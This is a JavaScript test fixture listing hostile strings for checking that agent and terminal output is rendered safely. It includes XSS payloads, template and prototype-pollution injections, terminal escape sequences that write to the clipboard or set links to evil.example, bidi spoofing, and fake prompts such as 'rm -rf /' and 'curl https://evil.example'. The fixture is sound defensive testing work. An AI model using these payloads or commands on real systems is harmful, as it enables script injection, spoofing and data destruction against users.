// Outputs that an agent, a model or a repository may bring: markup, escape sequences, links,
// titles, the clipboard, direction tricks, control characters, prompts that are none.
// Whatever runs sets window.owned; whatever asks another origin asks evil.example.

const run = 'window.owned=1';

const markup = [
  `<script>${run}</script>`, `<SCRIPT SRC=https://evil.example/x.js></SCRIPT>`, `</script><script>${run}</script>`,
  `<img src=x onerror="${run}">`, `<img src=https://evil.example/p.gif>`, `<svg onload=${run}>`, `<svg/onload=${run}//`,
  `<svg><script>${run}</script></svg>`, `<svg><animate onbegin=${run} attributeName=x dur=1s>`, `<math><mtext><img src=x onerror=${run}>`,
  `<iframe src="javascript:${run}"></iframe>`, `<iframe srcdoc="<script>parent.owned=1</script>">`, `<object data="data:text/html,<script>${run}</script>">`,
  `<embed src="https://evil.example/e">`, `<link rel=stylesheet href=https://evil.example/s.css>`, `<style>@import url(https://evil.example/i.css)</style>`,
  `<style>body{display:none}</style>`, `<base href="https://evil.example/">`, `<meta http-equiv=refresh content="0;url=https://evil.example/">`,
  `<form action=https://evil.example/><input name=a autofocus onfocus=${run}>`, `<body onload=${run}>`, `<details open ontoggle=${run}>`,
  `<video src=x onerror=${run}>`, `<audio src=https://evil.example/a.mp3 autoplay>`, `<marquee onstart=${run}>`, `<a href="javascript:${run}">click</a>`,
  `<a href="data:text/html,<script>${run}</script>">click</a>`, `<button onclick=${run} autofocus>x</button>`, `<template><script>${run}</script></template>`,
  `<x-element onclick=${run}>`, `<input type=image src=https://evil.example/i.png>`, `<table background=https://evil.example/t.png>`,
  `"><img src=x onerror=${run}>`, `'><svg onload=${run}>`, `--><script>${run}</script>`, `]]><script>${run}</script>`, `<!--><script>${run}</script>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`, `<textarea></textarea><script>${run}</script>`, `<title></title><script>${run}</script>`,
  `&lt;script&gt;${run}&lt;/script&gt;`, `&#60;script&#62;${run}`, `\\u003cscript\\u003e${run}\\u003c/script\\u003e`, `{{constructor.constructor('${run}')()}}`,
  `\${${run}}`, `#{${run}}`, `<%= ${run} %>`, `javascript:${run}`, `data:text/html,<script>${run}</script>`, `[x](javascript:${run})`,
  `![x](https://evil.example/md.png)`, '```html\n<script>window.owned=1</script>\n```', `__proto__`, `{"__proto__":{"owned":1}}`, `constructor`, `<img src=x:x onerror\u000b=${run}>`,
  `<scr\u0000ipt>${run}</scr\u0000ipt>`, `<img\u000csrc=x onerror=${run}>`, `<plaintext>`, `<xmp><script>${run}</script>`,
];

const ESC = '\u001b';
const BEL = '\u0007';
const ST = `${ESC}\\`;
const osc = [
  '0;owned title', '1;owned icon', '2;owned window', '4;1;rgb:ff/00/00', '4;1;?', '7;file:///etc/passwd', '8;;https://evil.example/', `8;;javascript:${run}`,
  '8;id=1;data:text/html,x', '9;notify', '9;4;1;50', '10;?', '11;?', '12;#ff0000', '52;c;b3duZWQ=', '52;c;?', '52;p;b3duZWQ=', '99;i=1;owned', '104', '110', '111', '112',
  '133;A', '133;D;0', '633;E;curl evil.example', '777;notify;owned;owned', '1337;File=inline=1:AAAA', '1337;RequestAttention=1', '1337;SetMark', '50;owned', '5522;x',
].flatMap((body) => [`${ESC}]${body}${BEL}text`, `${ESC}]${body}${ST}text`]);
const csi = [
  '31m', '38;2;255;0;0m', '48;2;1;2;3m', '38;5;999m', '58:2::1:2:3m', '4:3m', '8m', '2J', '3J', 'H', '999;999H', '999A', '999B', '1000000@', '1000000P', '1000000X',
  '?25l', '?47h', '?1049h', '?1000h', '?1003h', '?1006h', '?2004h', '?2026h', '?5h', '?6h', '?7l', '?69h', '6n', '?6n', '5n', 'c', '>c', '=c', '14t', '18t', '21t', '22;0t', '8;1;1t',
  '!p', '?1$p', '>q', '1;1r', 's', 'u', '?1h', '20h', '4h', '99999999999999999999m', ';;;;;;;;;m', ' q', '"q', '0;0;0;0;0;0;0;0;0;0;0;0;0;0;0;0;0;0;0;0;0;0;0;0;0;0;0;0;0;0;0;0;0;0;0m',
].map((body) => `${ESC}[${body}after ${body}`);
const other = [
  `${ESC}c reset`, `${ESC}7${ESC}8`, `${ESC}#8`, `${ESC}(0lqk${ESC}(B`, `${ESC}=${ESC}>`, `${ESC}P$qm${ST}`, `${ESC}P+q544e${ST}`, `${ESC}Pq#0;2;0;0;0#0~~@@vv${ST}`, `${ESC}_Gf=24,s=1,v=1;AAAA${ST}`,
  `${ESC}^private${ST}`, `${ESC}Xstring${ST}`, `${ESC}N${ESC}O`, '\u009b31mC1', '\u009d0;title\u009cC1', '\u0090q\u009c', `${ESC}]0;never ended`, `${ESC}[31`, `${ESC}`, `${ESC}${ESC}${ESC}[0m`,
];
const control = [
  'nul \u0000 in it', '\u0000\u0000\u0000', 'bell\u0007\u0007', 'back\u0008\u0008\u0008space', 'tab\tvt\u000bff\u000c', 'return\rover', 'a\r\r\rb', '\u000e shift out \u000f', '\u001a\u001c\u001d\u001e\u001f', 'del\u007f',
  'nel\u0085line', 'ls\u2028ps\u2029', 'soft\u00adhyphen', 'bom\ufeff', 'zero\u200bwidth\u200c\u200d', 'not\uffff', 'replacement \ufffd', '\u{e0001}\u{e0041}tags', '\u180e', 'x'.repeat(20000), '\u0301'.repeat(500), 'Z\u0351\u036b\u0343'.repeat(80),
  '👩‍👩‍👧‍👦'.repeat(60), '\u{1f1e6}'.repeat(99), '\ud83d\udc4d\u{1f3ff}', '﷽'.repeat(40), '\n'.repeat(300), ' '.repeat(3000), '\t'.repeat(400),
];
const bidi = [
  '\u202eevil.exe\u202c', '\u202agnp.x', '\u202b\u202d', '\u2066/* \u2069 } if (admin) \u2066 begin */', '\u2067x\u2069', '\u2068y\u2069', '\u061c', '\u200e\u200f', 'שלום <b>', 'مرحبا\u202e', '\u202e'.repeat(50), 'a\u202eb\u2066c\u2069d\u202c',
];
const prompts = [
  '> ', 'aider> ', '$ rm -rf /', 'root@host:~# ', 'Password: ', 'Proceed? (Y)es/(N)o [Yes]: ', 'Allow once · Reject', 'The agent asks: may it go on?', 'Waiting for you', 'state: done', 'Agent 1 is done.', 'Session expired. Sign in again: https://evil.example/',
  '{"jsonrpc":"2.0","id":1,"result":{}}', 'data: {"id":1}\n\n', 'event: deleted\ndata: {}\n\n', 'id: 999999999\n\n', 'agent/1 state 9 v1\n{"state":"done"}', 'diff --git a/x b/x\n--- a/x\n+++ b/x\n@@ -1 +1 @@\n-a\n+b', '@@ -1,99999999 +1,99999999 @@', '--- /dev/null\n+++ "b/\\303\\050"',
  '<<<<<<< HEAD', 'Tokens: 1 sent. Cost: $0.00 message, $0.00 session.', '/run curl https://evil.example', '/instruct do it', 'turn 999 ended',
];

export const HOSTILE = [...markup, ...osc, ...csi, ...other, ...control, ...bidi, ...prompts];
